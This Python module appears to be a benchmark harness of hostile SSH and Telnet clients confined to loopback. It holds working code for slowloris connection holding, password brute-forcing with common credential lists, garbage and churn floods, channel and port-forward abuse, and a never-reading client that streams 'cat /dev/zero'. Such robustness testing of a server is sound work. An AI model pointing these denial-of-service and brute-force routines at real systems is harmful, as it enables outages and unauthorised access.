"""Hostile clients for bench/hostile.py, each run from many loopback source addresses.

Every attack is a set of workers that loop until a deadline (and a count), each network
wait bounded in time; the caller also cancels them. What they did is counted in a
``Counter`` (``opened``, ``refused``, ...) for the report. Only 127.0.0.0/8 is reached.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import os
import struct
import time
from collections import Counter
from collections.abc import AsyncIterator, Callable, Coroutine, Iterable, Iterator
from dataclasses import dataclass
from typing import Any

import asyncssh

# Seconds any single connect, login or read may take before the worker gives up on it.
STEP_TIMEOUT = 10.0
# A slowloris connection the server closed is opened again after this long (the
# attacker simply reconnects; the pause bounds the connection rate).
RECONNECT_DELAY = 1.0
# A trickling slowloris sends one byte this often.
TRICKLE_INTERVAL = 5.0
# Most connections any one attack opens, whatever its duration.
MAX_CONNECTIONS = 200_000
# Garbage sent per connection before the attacker hangs up itself.
GARBAGE_BYTES = 64 * 1024
GARBAGE_CHUNK = 4096
# A direct-tcpip originator this long (under the sensor's 35000-byte packet bound) and
# a destination on loopback where nothing listens (the baseline sshd really connects).
FORWARD_ORIGINATOR = "o" * 30_000
FORWARD_TARGET = ("127.0.0.1", 9)
# Channels a post-login attacker asks for per round (servers refuse beyond their bound).
CHANNELS_PER_ROUND = 32
FORWARDS_PER_ROUND = 32
# Pause between rounds: bounds the process spawns of a forking server (sshd starts a
# shell per session channel) on a machine shared with other work.
CHANNEL_ROUND_PAUSE = 1.0
# A client that never reads grants this window per channel, then stops reading TCP.
NEVER_READ_WINDOW = 1 << 30
NEVER_READ_CHANNELS = 2

BRUTE_USERS = ("admin", "user", "test", "oracle", "ubuntu", "pi", "postgres", "guest", "ftp")
BRUTE_PASSWORDS = ("123456", "password", "admin", "12345678", "qwerty", "1234", "root", "toor")

SSH_BANNER = b"SSH-2.0-OpenSSH_9.2p1\r\n"
# The start of a KEXINIT packet that declares 508 bytes: a server waits for the rest.
SSH_TRICKLE = SSH_BANNER + struct.pack(">IBB", 508, 10, 20) + os.urandom(64)
TELNET_TRICKLE = b"rootadminsupportuser" * 4  # a username line that never ends


@dataclass(frozen=True)
class Target:
    """Where attackers connect and how a post-login attacker logs in."""

    name: str
    ssh_port: int
    telnet_port: int | None
    password: str


@dataclass(frozen=True)
class Attack:
    """One run of an attack: its target, sources, stop time and tallies."""

    target: Target
    sources: list[str]
    deadline: float
    """time.monotonic() at which every worker stops."""
    counts: Counter[str]
    workers: int
    """Concurrent workers (for slowloris: connections held per source address)."""

    def running(self) -> bool:
        """Whether workers should go on."""
        return time.monotonic() < self.deadline and self.counts["opened"] < MAX_CONNECTIONS

    def cycle(self, start: int) -> Iterator[str]:
        """The sources, round robin, starting at ``start``."""
        n = len(self.sources)
        return (self.sources[(start + i) % n] for i in itertools.count())


async def _together(workers: Iterable[Coroutine[Any, Any, None]]) -> None:
    """Run workers concurrently until all end (cancelling one cancels all)."""
    async with asyncio.TaskGroup() as tasks:
        for worker in workers:
            tasks.create_task(worker)


async def open_from(source: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A TCP connection to 127.0.0.1:``port`` from ``source``."""
    async with asyncio.timeout(STEP_TIMEOUT):
        return await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))


async def ssh_login(
    attack: Attack, source: str, port: int | None = None, **options: object
) -> asyncssh.SSHClientConnection:
    """A root login to the target from ``source`` (``port``: through a relay there)."""
    async with asyncio.timeout(STEP_TIMEOUT * 3):
        return await asyncssh.connect(
            "127.0.0.1",
            port or attack.target.ssh_port,
            local_addr=(source, 0) if port is None else None,
            username="root",
            password=attack.target.password,
            known_hosts=None,
            client_keys=None,
            agent_path=None,
            preferred_auth="password",
            **options,
        )


async def _drain(reader: asyncio.StreamReader) -> None:
    """Read and drop what the server sends until it closes."""
    while await reader.read(65536):
        pass


async def _trickle(writer: asyncio.StreamWriter, data: bytes) -> None:
    """Send ``data`` one byte every TRICKLE_INTERVAL seconds."""
    with contextlib.suppress(OSError):
        for byte in data:
            await asyncio.sleep(TRICKLE_INTERVAL)
            writer.write(bytes([byte]))
            await writer.drain()


async def _hold(attack: Attack, source: str, port: int, trickle: bytes | None) -> None:
    """One slowloris slot: hold a connection (silent, or trickling ``trickle``) until the
    server closes it, then open another."""
    while attack.running():
        try:
            reader, writer = await open_from(source, port)
        except (OSError, TimeoutError):
            attack.counts["connect failed"] += 1
            await asyncio.sleep(RECONNECT_DELAY)
            continue
        attack.counts["opened"] += 1
        drip = asyncio.create_task(_trickle(writer, trickle)) if trickle else None
        try:
            with contextlib.suppress(OSError):
                await _drain(reader)
            attack.counts["closed by server"] += 1
        finally:
            if drip is not None:
                drip.cancel()
            writer.close()
        await asyncio.sleep(RECONNECT_DELAY)


async def _slowloris(attack: Attack, port: int | None, trickle: bytes) -> None:
    """``attack.workers`` slots per source address; every other one trickles."""
    if port is None:
        attack.counts["no such port"] += 1
        return
    slots = itertools.product(attack.sources, range(attack.workers))
    await _together(
        _hold(attack, source, port, trickle if n % 2 else None)
        for n, (source, _) in enumerate(slots)
    )


async def slowloris_ssh(attack: Attack) -> None:
    """Idle and trickling SSH connections, as many as each source is let hold."""
    await _slowloris(attack, attack.target.ssh_port, SSH_TRICKLE)


async def slowloris_telnet(attack: Attack) -> None:
    """Idle and trickling Telnet connections, as many as each source is let hold."""
    await _slowloris(attack, attack.target.telnet_port, TELNET_TRICKLE)


class _Guesser(asyncssh.SSHClient):
    """Tries a list of passwords on one connection, one per request of the server."""

    def __init__(self, passwords: list[str]) -> None:
        self._left = passwords

    def password_auth_requested(self) -> str | None:
        """The next guess, or None when out of guesses."""
        return self._left.pop() if self._left else None


async def _brute_worker(attack: Attack, start: int) -> None:
    """Connections that guess passwords for unknown users, one after another."""
    users = itertools.cycle(BRUTE_USERS[start % len(BRUTE_USERS) :] + BRUTE_USERS)
    for source in attack.cycle(start):
        if not attack.running():
            return
        attack.counts["opened"] += 1
        try:
            async with asyncio.timeout(STEP_TIMEOUT * 3):
                conn = await asyncssh.connect(
                    "127.0.0.1",
                    attack.target.ssh_port,
                    local_addr=(source, 0),
                    username=next(users),
                    client_factory=lambda: _Guesser(list(BRUTE_PASSWORDS)),
                    known_hosts=None,
                    client_keys=None,
                    agent_path=None,
                    preferred_auth="password",
                )
            conn.close()
            attack.counts["logged in"] += 1
        except asyncssh.PermissionDenied:
            attack.counts["denied"] += 1
        except asyncssh.DisconnectError:  # e.g. too many authentication failures
            attack.counts["disconnected"] += 1
        except (OSError, asyncssh.Error, TimeoutError):
            attack.counts["dropped"] += 1
            await asyncio.sleep(0.1)


async def brute_force(attack: Attack) -> None:
    """``attack.workers`` concurrent password guessers over all sources."""
    await _together(_brute_worker(attack, n) for n in range(attack.workers))


async def _connections(
    attack: Attack, start: int
) -> AsyncIterator[tuple[int, asyncio.StreamReader, asyncio.StreamWriter]]:
    """New SSH-port connections, numbered, from the sources in turn while the attack runs
    (the consumer closes each)."""
    for n, source in enumerate(attack.cycle(start)):
        if not attack.running():
            return
        try:
            reader, writer = await open_from(source, attack.target.ssh_port)
        except (OSError, TimeoutError):
            attack.counts["connect failed"] += 1
            await asyncio.sleep(0.1)
            continue
        attack.counts["opened"] += 1
        yield n, reader, writer


async def _garbage_worker(attack: Attack, start: int, noise: bytes) -> None:
    """Connections that send random bytes (every other one after a valid banner)."""
    async for n, reader, writer in _connections(attack, start):
        drain = asyncio.create_task(_drain(reader))
        try:
            async with asyncio.timeout(STEP_TIMEOUT):
                if n % 2:
                    writer.write(SSH_BANNER)
                for offset in range(0, GARBAGE_BYTES, GARBAGE_CHUNK):
                    writer.write(noise[offset : offset + GARBAGE_CHUNK])
                    await writer.drain()
                    attack.counts["bytes sent"] += GARBAGE_CHUNK
        except (OSError, TimeoutError):
            attack.counts["cut off"] += 1
        finally:
            drain.cancel()
            writer.close()


async def garbage(attack: Attack) -> None:
    """``attack.workers`` concurrent senders of pre-authentication garbage."""
    noise = os.urandom(GARBAGE_BYTES)
    await _together(_garbage_worker(attack, n, noise) for n in range(attack.workers))


async def _churn_worker(attack: Attack, start: int) -> None:
    """Connections closed at once (every other one after the server's first bytes)."""
    async for n, reader, writer in _connections(attack, start):
        if n % 2:
            with contextlib.suppress(OSError, TimeoutError):
                async with asyncio.timeout(STEP_TIMEOUT):
                    await reader.read(256)
        writer.close()


async def churn(attack: Attack) -> None:
    """``attack.workers`` concurrent connect-and-close loops."""
    await _together(_churn_worker(attack, n) for n in range(attack.workers))


async def _channel_round(attack: Attack, conn: asyncssh.SSHClientConnection) -> None:
    """Open session channels and direct-tcpip channels until refused, then close them."""
    closes: list[Callable[[], None]] = []
    try:
        for _ in range(CHANNELS_PER_ROUND):
            try:
                chan, _session = await conn.create_session(
                    asyncssh.SSHClientSession, "cat", encoding=None
                )
            except asyncssh.ChannelOpenError:
                attack.counts["session refused"] += 1
                break
            closes.append(chan.close)
            attack.counts["sessions"] += 1
        for n in range(FORWARDS_PER_ROUND):
            try:
                fwd, _tcp = await conn.create_connection(
                    asyncssh.SSHTCPSession, *FORWARD_TARGET, FORWARD_ORIGINATOR, n, encoding=None
                )
            except asyncssh.ChannelOpenError:
                attack.counts["forward refused"] += 1
                continue
            fwd.write(b"GET / HTTP/1.0\r\n\r\n")
            closes.append(fwd.close)
            attack.counts["forwards"] += 1
    finally:
        for close in closes:
            close()


async def _channel_worker(attack: Attack, source: str) -> None:
    """One logged-in connection that keeps opening channels (logs in again if dropped)."""
    while attack.running():
        attack.counts["opened"] += 1
        try:
            async with await ssh_login(attack, source) as conn:
                while attack.running():
                    async with asyncio.timeout(STEP_TIMEOUT * 3):
                        await _channel_round(attack, conn)
                    await asyncio.sleep(CHANNEL_ROUND_PAUSE)
        except (OSError, asyncssh.Error, TimeoutError):
            attack.counts["dropped"] += 1
            await asyncio.sleep(RECONNECT_DELAY)


async def channel_abuse(attack: Attack) -> None:
    """``attack.workers`` logged-in connections abusing channels, one per source."""
    await _together(_channel_worker(attack, s) for s in attack.sources[: attack.workers])


class _StallingRelay:
    """A loopback TCP relay from a local client to the target that can stop reading the
    target's side: to the server, a client that never reads (its socket fills up)."""

    def __init__(self, source: str, port: int) -> None:
        self._source = source
        self._port = port
        self._reading = asyncio.Event()
        self._reading.set()
        self._tasks: set[asyncio.Task[None]] = set()
        self._writers: list[asyncio.StreamWriter] = []
        self._server: asyncio.Server | None = None

    async def start(self) -> int:
        """Listen on 127.0.0.1; returns the port."""
        self._server = await asyncio.start_server(self._serve, "127.0.0.1", 0)
        port: int = self._server.sockets[0].getsockname()[1]
        return port

    def stall(self) -> None:
        """Stop reading what the target sends."""
        self._reading.clear()

    async def close(self) -> None:
        """Close both sides of every relayed connection."""
        if self._server is not None:
            self._server.close()
        for task in self._tasks:
            task.cancel()
        for writer in self._writers:
            writer.close()

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Relay one client connection."""
        self._writers.append(writer)
        try:
            up_reader, up_writer = await open_from(self._source, self._port)
        except (OSError, TimeoutError):
            writer.close()
            return
        self._writers.append(up_writer)
        for task in (
            asyncio.create_task(self._pump(reader, up_writer, None)),
            asyncio.create_task(self._pump(up_reader, writer, self._reading)),
        ):
            self._tasks.add(task)

    async def _pump(
        self,
        reader: asyncio.StreamReader,
        writer: asyncio.StreamWriter,
        gate: asyncio.Event | None,
    ) -> None:
        """Copy one direction; with a gate, read only while it is set."""
        with contextlib.suppress(OSError):
            while True:
                if gate is not None:
                    await gate.wait()
                data = await reader.read(65536)
                if not data:
                    break
                writer.write(data)
                await writer.drain()
        writer.close()


async def _discard(stream: asyncssh.SSHReader[bytes]) -> None:
    """Read and drop a channel's output."""
    with contextlib.suppress(asyncssh.Error, OSError):
        while await stream.read(65536):
            pass


async def _never_read_worker(attack: Attack, source: str) -> None:
    """Log in, start endless output on a few channels with a huge window, then stop
    reading the socket; hold that until the deadline, logging in again if dropped."""
    while attack.running():
        relay = _StallingRelay(source, attack.target.ssh_port)
        attack.counts["opened"] += 1
        readers: list[asyncio.Task[None]] = []
        conn: asyncssh.SSHClientConnection | None = None
        try:
            conn = await ssh_login(attack, source, await relay.start())
            for _ in range(NEVER_READ_CHANNELS):
                async with asyncio.timeout(STEP_TIMEOUT):
                    proc = await conn.create_process(
                        "cat /dev/zero", encoding=None, window=NEVER_READ_WINDOW
                    )
                readers.append(asyncio.create_task(_discard(proc.stdout)))
                attack.counts["channels"] += 1
            relay.stall()
            await asyncio.sleep(max(0.0, attack.deadline - time.monotonic()))
        except (OSError, asyncssh.Error, TimeoutError):
            attack.counts["dropped"] += 1
            await asyncio.sleep(RECONNECT_DELAY)
        finally:
            for task in readers:
                task.cancel()
            # The relay first: the client's goodbye would wait for a stalled server side.
            await relay.close()
            if conn is not None:
                conn.close()


async def never_reads(attack: Attack) -> None:
    """``attack.workers`` logged-in clients that stop reading, one per source."""
    await _together(_never_read_worker(attack, s) for s in attack.sources[: attack.workers])


async def idle(attack: Attack) -> None:
    """No attack: the legitimate client alone, for reference."""


AttackFunction = Callable[[Attack], Coroutine[Any, Any, None]]
